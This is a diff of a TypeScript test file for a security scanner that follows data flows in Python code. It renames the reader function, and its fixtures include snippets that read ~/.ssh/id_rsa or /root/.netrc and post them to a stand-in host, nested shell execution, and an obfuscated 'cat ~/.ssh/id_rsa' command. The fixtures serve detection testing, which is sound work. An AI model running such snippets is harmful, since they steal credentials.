@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { listFacts, listFlows, toExamples } from '../support/code-reading.ts'
-import { readPython } from '../../packages/scanner/src/code/read-program.ts'
+import { readCodeText } from '../../packages/scanner/src/code/read-program.ts'
 
 const sent = [
   'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n  key = f.read()\nrequests.post("https://e.example/c", data={"k": key})',
@@ -61,16 +61,16 @@ const commands = [
 
 describe('a value of a Python program', () => {
   it.each(toExamples(commands))('is followed through commands of a shell: $program', ({ program, found }) => {
-    expect(listFlows(readPython(program))).toEqual(expect.arrayContaining(found))
+    expect(listFlows(readCodeText('python', program))).toEqual(expect.arrayContaining(found))
   })
 
   it('is found in bounded time if commands and programs start each other', () => {
     const program = 'import os\ns = "python3 -c \'import os; os.system(open(1).read())\'"\nos.system(s + s)\n'
-    expect(readPython(program.repeat(300)).facts.length).toBeGreaterThan(0)
+    expect(readCodeText('python', program.repeat(300)).facts.length).toBeGreaterThan(0)
   })
 
   it.each(toExamples([...sent, ...run]))('is followed from source to use: $program', ({ program, found }) => {
-    expect(listFlows(readPython(program))).toEqual(expect.arrayContaining(found))
+    expect(listFlows(readCodeText('python', program))).toEqual(expect.arrayContaining(found))
   })
 
   it.each(
@@ -85,7 +85,7 @@ describe('a value of a Python program', () => {
       'a name of the same form in another function ⟸ import requests\ndef a():\n  key = open("/root/.netrc").read()\n  return len(key)\ndef b():\n  key = "public"\n  requests.post("https://e.example/", data=key)',
     ]),
   )('has no flow: $found', ({ program }) => {
-    expect(listFlows(readPython(program))).toEqual([])
+    expect(listFlows(readCodeText('python', program))).toEqual([])
   })
 })
 
@@ -105,18 +105,21 @@ describe('an operation of a Python program', () => {
       `program-run id ⟸ import subprocess\nsubprocess.run("python3 -c import(1)".split())\nsubprocess.run(["python3", "-c", "import os; os.system('id')"])`,
     ]),
   )('is found: $program', ({ program, found }) => {
-    expect(listFacts(readPython(program))).toEqual(expect.arrayContaining(found))
+    expect(listFacts(readCodeText('python', program))).toEqual(expect.arrayContaining(found))
   })
 
   it.each([`"`, `'`])('is read in full if its command is joined from hundreds of strings in %s', (quote) => {
     const command = `echo ${'abcdefgh '.repeat(400)}; cat ~/.ssh/id_rsa`
     const pieces = command.match(/.{1,8}/g)!.map((piece) => `${quote}${piece}${quote}`)
-    const { texts } = readPython(`import os\nos.system(${pieces.join(' + ')})\nprint("done")\n`)
+    const { texts } = readCodeText('python', `import os\nos.system(${pieces.join(' + ')})\nprint("done")\n`)
     expect(texts).toMatchObject([{ text: command, decoded: ['concatenation'] }])
   })
 
   it('is found in a text that the program decodes', () => {
-    const { texts } = readPython('import base64\nx = base64.b64decode("aW1wb3J0IG9z" + "CmltcG9ydCBzeXM=")\n')
+    const { texts } = readCodeText(
+      'python',
+      'import base64\nx = base64.b64decode("aW1wb3J0IG9z" + "CmltcG9ydCBzeXM=")\n',
+    )
     expect(texts).toMatchObject([{ text: 'import os\nimport sys', decoded: ['base64', 'concatenation'] }])
   })
 })
